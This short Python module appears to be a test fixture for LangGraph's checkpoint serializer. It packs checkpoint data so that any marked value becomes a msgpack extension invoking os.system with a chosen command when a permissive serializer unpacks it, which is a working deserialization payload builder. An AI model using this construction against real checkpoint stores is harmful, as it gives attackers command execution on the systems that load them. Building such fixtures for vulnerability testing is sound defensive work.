"""Checkpoint data an attacker could write: a msgpack extension naming ``os.system``."""

from __future__ import annotations

from typing import Any

import ormsgpack
from langgraph.checkpoint.serde.jsonplus import EXT_CONSTRUCTOR_POS_ARGS, _msgpack_default, _option


class _Call:
    def __init__(self, command: str) -> None:
        self.command = command


def _default(obj: Any) -> Any:
    if isinstance(obj, _Call):
        return ormsgpack.Ext(
            EXT_CONSTRUCTOR_POS_ARGS, ormsgpack.packb(["os", "system", [obj.command]])
        )
    return _msgpack_default(obj)


def packed(value: Any, command: str) -> bytes:
    """``value`` as LangGraph packs it, with every ``CALL`` in it replaced by a call of
    ``os.system(command)`` for whoever unpacks it with a permissive serializer."""

    def swap(v: Any) -> Any:
        if v == CALL:
            return _Call(command)
        if isinstance(v, dict):
            return {k: swap(x) for k, x in v.items()}
        return v

    return ormsgpack.packb(swap(value), default=_default, option=_option)


CALL = "<crafted call>"
